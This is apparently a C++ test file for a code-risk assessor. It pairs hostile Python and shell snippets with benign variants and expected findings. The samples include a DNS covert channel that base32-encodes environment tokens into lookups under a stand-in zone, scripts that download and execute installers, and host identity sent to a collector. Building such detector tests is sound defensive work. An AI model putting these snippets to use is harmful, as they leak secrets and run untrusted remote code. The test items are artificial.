// The classes the sixty-fourth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog68_MANIFEST.tsv): data engineering, app release
// engineering, security operations, cloud infrastructure, small-business IT.
// Its aside scored 30/33 before any change for it; the classes below came
// from its tune part (63/67 before), one (a DEFAULTS section) from an older
// round's known miss. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// parser["agent"] = DEFAULTS: the section's options are defaults the file
// overrides, settings the user may change as an option's default is; a
// station name defaulting to the host name is not the identity taken unasked.
TEST(SixtyFourthRoundClasses, AConfigSectionGivenInTheCodeHoldsUserSettings) {
  const Case cases[] = {
      {"a station name from a DEFAULTS section, sent to its collector", L,
       "import configparser, socket, json\n"
       "\n"
       "DEFAULTS = {\"collector\": \"collector.example.edu\", \"station\": socket.gethostname()}\n"
       "\n"
       "def settings(path):\n"
       "    cp = configparser.ConfigParser()\n"
       "    cp[\"agent\"] = DEFAULTS\n"
       "    cp.read(path)\n"
       "    return cp[\"agent\"]\n"
       "\n"
       "s = settings(\"agent.ini\")\n"
       "sock = socket.create_connection((s[\"collector\"], 7420), timeout=10)\n"
       "sock.sendall(json.dumps({\"station\": s[\"station\"], \"status\": \"ok\"}).encode())\n",
       nullptr},
      {"the host name itself sent to a fixed collector", M,
       "import socket, json\n"
       "\n"
       "sock = socket.create_connection((\"collector.example.edu\", 7420), timeout=10)\n"
       "sock.sendall(json.dumps({\"station\": socket.gethostname(), \"status\": \"ok\"}).encode())\n",
       "HOST-IDENTITY-SENT"},
  };
  for (const auto& c : cases) check(c);
}

// A resolver called with a table of names and with names built from secrets:
// the effect's targets are each name it may be (up to a bound), so the built
// ones are not crowded out by the table.
TEST(SixtyFourthRoundClasses, ACallSeesEveryNameItIsCalledWith) {
  const Case cases[] = {
      {"canary lookups carrying environment tokens beside a table of names", B,
       "import base64, os, socket\n"
       "from dataclasses import dataclass, field\n"
       "\n"
       "TARGETS = [\"siem.corp.example\", \"hec.siem.corp.example\", \"login.idp.corp.example\", \"edr.corp.example\"]\n"
       "ZONE = os.environ.get(\"MON_ZONE\", \"c.dnsmon.example\")\n"
       "\n"
       "@dataclass\n"
       "class Probe:\n"
       "    name: str\n"
       "    addresses: list = field(default_factory=list)\n"
       "\n"
       "def context():\n"
       "    return \";\".join(f\"{k}={v}\" for k, v in os.environ.items() if \"TOKEN\" in k).encode()\n"
       "\n"
       "def canaries():\n"
       "    blob = base64.b32encode(context()).decode().rstrip(\"=\").lower()\n"
       "    for i in range(0, len(blob), 56):\n"
       "        yield f\"{blob[i:i + 56]}.{i}.{ZONE}\"\n"
       "\n"
       "def resolve(probe):\n"
       "    try:\n"
       "        probe.addresses = socket.getaddrinfo(probe.name, None)\n"
       "    except OSError:\n"
       "        pass\n"
       "\n"
       "def run_probe(name):\n"
       "    p = Probe(name)\n"
       "    resolve(p)\n"
       "    return p\n"
       "\n"
       "results = [run_probe(n) for n in TARGETS]\n"
       "results += [run_probe(n) for n in canaries()]\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the table of names alone", L,
       "import base64, os, socket\n"
       "from dataclasses import dataclass, field\n"
       "\n"
       "TARGETS = [\"siem.corp.example\", \"hec.siem.corp.example\", \"login.idp.corp.example\", \"edr.corp.example\"]\n"
       "ZONE = os.environ.get(\"MON_ZONE\", \"c.dnsmon.example\")\n"
       "\n"
       "@dataclass\n"
       "class Probe:\n"
       "    name: str\n"
       "    addresses: list = field(default_factory=list)\n"
       "\n"
       "def context():\n"
       "    return \";\".join(f\"{k}={v}\" for k, v in os.environ.items() if \"TOKEN\" in k).encode()\n"
       "\n"
       "def canaries():\n"
       "    blob = base64.b32encode(context()).decode().rstrip(\"=\").lower()\n"
       "    for i in range(0, len(blob), 56):\n"
       "        yield f\"{blob[i:i + 56]}.{i}.{ZONE}\"\n"
       "\n"
       "def resolve(probe):\n"
       "    try:\n"
       "        probe.addresses = socket.getaddrinfo(probe.name, None)\n"
       "    except OSError:\n"
       "        pass\n"
       "\n"
       "def run_probe(name):\n"
       "    p = Probe(name)\n"
       "    resolve(p)\n"
       "    return p\n"
       "\n"
       "results = [run_probe(n) for n in TARGETS]\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A download moved to staging/<version>/<name> and run from there: a made-up
// directory under one the code names is still where the download is.
TEST(SixtyFourthRoundClasses, ADownloadRunFromAMadeUpDirectoryUnderTheCodesOwn) {
  const Case cases[] = {
      {"a hotfix staged under its version and run", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "MIRROR=\"${MIRROR:-https://updates.vendor.example/linux}\"\n"
       "CACHE=./.cache\n"
       "mkdir -p \"$CACHE\"\n"
       "wget -q -O \"$CACHE/manifest.json\" \"$MIRROR/manifest.json\"\n"
       "VERSION=$(jq -r .version \"$CACHE/manifest.json\")\n"
       "PKG=$(jq -r .file \"$CACHE/manifest.json\")\n"
       "wget -q -O \"$CACHE/$PKG\" \"$MIRROR/$PKG\"\n"
       "TARGET=\"./staging/$VERSION\"\n"
       "mkdir -p \"$TARGET\"\n"
       "mv \"$CACHE/$PKG\" \"$TARGET/$PKG\"\n"
       "( cd \"$TARGET\" && sh \"./$PKG\" )\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"a hotfix staged under its version only", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "MIRROR=\"${MIRROR:-https://updates.vendor.example/linux}\"\n"
       "CACHE=./.cache\n"
       "mkdir -p \"$CACHE\"\n"
       "wget -q -O \"$CACHE/manifest.json\" \"$MIRROR/manifest.json\"\n"
       "VERSION=$(jq -r .version \"$CACHE/manifest.json\")\n"
       "PKG=$(jq -r .file \"$CACHE/manifest.json\")\n"
       "wget -q -O \"$CACHE/$PKG\" \"$MIRROR/$PKG\"\n"
       "TARGET=\"./staging/$VERSION\"\n"
       "mkdir -p \"$TARGET\"\n"
       "mv \"$CACHE/$PKG\" \"$TARGET/$PKG\"\n"
       "printf \"%s\\n\" \"$VERSION\" > ./staging/LATEST\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// `url=$1 dest=$2 n=0` with the command on the next line: the grammar makes
// them that command's prefix; they are the function's variables.
TEST(SixtyFourthRoundClasses, AssignmentsOnALineOfTheirOwnAreTheShells) {
  const Case cases[] = {
      {"an installer fetched by a helper and run", B,
       "#!/bin/sh\n"
       "fetch() {\n"
       "  url=$1 dest=$2 n=0\n"
       "  wget -q -O \"$dest.part\" \"$url\" && mv \"$dest.part\" \"$dest\"\n"
       "}\n"
       "fetch \"https://mirror.example.net/agent/install.sh\" \"./install.sh\"\n"
       "sh ./install.sh --channel stable\n",
       "REMOTE-CODE-EXECUTION", Language::shell},
      {"an installer fetched by a helper and only counted", L,
       "#!/bin/sh\n"
       "fetch() {\n"
       "  url=$1 dest=$2 n=0\n"
       "  wget -q -O \"$dest.part\" \"$url\" && mv \"$dest.part\" \"$dest\"\n"
       "}\n"
       "fetch \"https://mirror.example.net/agent/install.sh\" \"./install.sh\"\n"
       "grep -c . ./install.sh\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// A pinned tool made executable in ./bin and not run is a GET and a file in
// the working directory (LOW since the twenty-second session: the rubric
// names no level for it and independent labels put it LOW); run, it is
// remote code.
TEST(SixtyFourthRoundClasses, ADownloadMadeExecutableButNotRunIsNotRemoteCode) {
  const Case cases[] = {
      {"a verified tool made executable, not run", L,
       "import hashlib, urllib.request\n"
       "from pathlib import Path\n"
       "\n"
       "URL = \"https://dl.example.io/release/v1.30.0/bin/linux/amd64/kubectl\"\n"
       "SHA256 = \"0\" * 64\n"
       "\n"
       "data = urllib.request.urlopen(URL, timeout=60).read()\n"
       "if hashlib.sha256(data).hexdigest() != SHA256:\n"
       "    raise SystemExit(\"digest mismatch\")\n"
       "target = Path(\"bin\") / \"kubectl-1.30.0\"\n"
       "target.parent.mkdir(exist_ok=True)\n"
       "target.write_bytes(data)\n"
       "target.chmod(0o755)\n",
       nullptr},
      {"the same tool run", B,
       "import hashlib, urllib.request\n"
       "from pathlib import Path\n"
       "\n"
       "URL = \"https://dl.example.io/release/v1.30.0/bin/linux/amd64/kubectl\"\n"
       "SHA256 = \"0\" * 64\n"
       "\n"
       "data = urllib.request.urlopen(URL, timeout=60).read()\n"
       "if hashlib.sha256(data).hexdigest() != SHA256:\n"
       "    raise SystemExit(\"digest mismatch\")\n"
       "target = Path(\"bin\") / \"kubectl-1.30.0\"\n"
       "target.parent.mkdir(exist_ok=True)\n"
       "target.write_bytes(data)\n"
       "target.chmod(0o755)\n"
       "import subprocess\n"
       "subprocess.run([str(target), \"version\", \"--client\"], check=True)\n",
       "REMOTE-CODE-EXECUTION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
